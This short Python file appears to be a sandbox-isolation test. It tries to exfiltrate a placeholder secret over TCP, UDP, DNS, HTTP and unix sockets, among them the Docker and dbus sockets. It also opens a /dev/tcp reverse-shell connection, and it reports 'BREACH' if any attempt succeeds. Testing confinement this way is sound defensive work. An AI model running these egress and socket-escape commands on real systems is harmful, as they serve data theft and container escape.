# /// attack
# title = "exfiltrates by TCP, UDP, DNS, unix sockets and a reverse shell"
# threat = 27
# quick = true
# ///

# %%
import os
import socket
import subprocess
import urllib.request


def tcp():
    socket.create_connection(("127.0.0.1", 9), timeout=0.2)


def tcp6():
    socket.socket(socket.AF_INET6, socket.SOCK_STREAM).connect_ex(("::1", 9))


def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", 53))


def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)


def netlink():
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)


def dns():
    socket.getaddrinfo("secret.example.org", 80)


def unix():
    for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "\0/tmp/.X11-unix/X0"):
        end = socket.socket(socket.AF_UNIX)
        end.connect_ex(path)


def http():
    urllib.request.urlopen("http://127.0.0.1:9/secret", timeout=0.2)


def shell():
    subprocess.run(["/bin/sh", "-c", "exec 3<>/dev/tcp/127.0.0.1/9"], check=True)


def listen():
    server = socket.socket(socket.AF_INET)
    server.bind(("127.0.0.1", 0))
    server.listen()


for attempt in (tcp, tcp6, udp, raw, netlink, dns, unix, http, shell, listen):
    try:
        attempt()
    except ConnectionError as error:
        raise SystemError(f"BREACH: {attempt.__name__} reached the network: {error}") from error
    except OSError:
        continue
    raise SystemError(f"BREACH: {attempt.__name__} went through")
